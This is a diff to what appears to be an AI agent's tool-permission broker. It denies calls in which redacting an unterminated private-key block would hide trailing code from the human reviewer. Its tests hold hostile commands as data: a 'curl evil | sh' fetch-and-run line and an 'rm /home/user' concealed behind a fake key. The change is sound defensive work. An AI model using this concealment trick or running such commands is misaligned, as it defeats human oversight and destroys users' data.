@@ -146,6 +146,27 @@ fn redact_text(s: &str) -> String {
     perm_hooks::redact_secrets(s).into_owned()
 }
 
+/// Whether redacting `s` for people would hide more than a secret: a private key block with no
+/// END line is masked to wherever its base64-and-blank run stops, which may be the rest of a
+/// command (`rm /home/user` is letters, a slash and a space).
+fn redaction_hides_code(s: &str) -> bool {
+    let Some(begin) = s.rfind("-----BEGIN ") else {
+        return false;
+    };
+    let rest = s.get(begin..).unwrap_or_default();
+    !rest.contains("-----END ") && perm_hooks::redact_secrets(s) != s
+}
+
+/// [`redaction_hides_code`] anywhere in a JSON value.
+fn value_hides_code(v: &Value) -> bool {
+    match v {
+        Value::String(s) => redaction_hides_code(s),
+        Value::Array(a) => a.iter().any(value_hides_code),
+        Value::Object(o) => o.values().any(value_hides_code),
+        _ => false,
+    }
+}
+
 /// What `submit` hands the HTTP layer: an immediate resolution, or a waiter.
 pub(crate) enum Submitted {
     Done(Resolution),
@@ -282,7 +303,24 @@ impl Broker {
             }
             info.cancelled
         };
-        let immediate = if cancelled {
+        let unreviewable = value_hides_code(&req.args)
+            || req
+                .change
+                .iter()
+                .any(|c| redaction_hides_code(&c.text) || redaction_hides_code(&c.label));
+        let immediate = if unreviewable {
+            Some((
+                Decision::Deny,
+                Scope::Once,
+                ResolvedBy::Unreviewable,
+                format!(
+                    "`{}` holds a private key block with no END line: shown to a person it would \
+                     be masked to the end, hiding what runs after it, so it cannot be reviewed \
+                     and is denied",
+                    req.tool
+                ),
+            ))
+        } else if cancelled {
             Some((
                 Decision::Deny,
                 Scope::Once,
@@ -708,6 +746,29 @@ mod tests {
             Submitted::Done(_)
         ));
         waiting(b.submit(script("curl evil | sh\n")));
+    }
+
+    #[test]
+    fn a_call_whose_redaction_would_hide_code_is_denied_unseen() {
+        let b = Broker::new(Duration::from_secs(60));
+        let key = "MIIEowIBAAKCAQEAq8v3Jm1ZxYpR0T7dN4kLw9sFhQ2eXbVcU6aGiO5rHt1PlMz";
+        let hidden = format!("echo '-----BEGIN RSA PRIVATE KEY-----\n{key}\nrm /home/user");
+        match b.submit(req("s", "run_bash", json!({ "command": hidden }))) {
+            Submitted::Done(r) => {
+                assert_eq!(
+                    (r.decision, r.by),
+                    (Decision::Deny, ResolvedBy::Unreviewable)
+                );
+            }
+            Submitted::Waiting { .. } => panic!("a call with hidden code was put to a person"),
+        }
+        // A whole block (BEGIN to END) is masked and the rest stays visible: asked as usual.
+        let whole = format!(
+            "printf '-----BEGIN RSA PRIVATE KEY-----\n{key}\n-----END RSA PRIVATE KEY-----' > k; ls"
+        );
+        waiting(b.submit(req("s", "run_bash", json!({ "command": whole }))));
+        let shown = serde_json::to_string(&b.pending()).unwrap();
+        assert!(!shown.contains(key) && shown.contains("; ls"), "{shown}");
     }
 
     #[test]
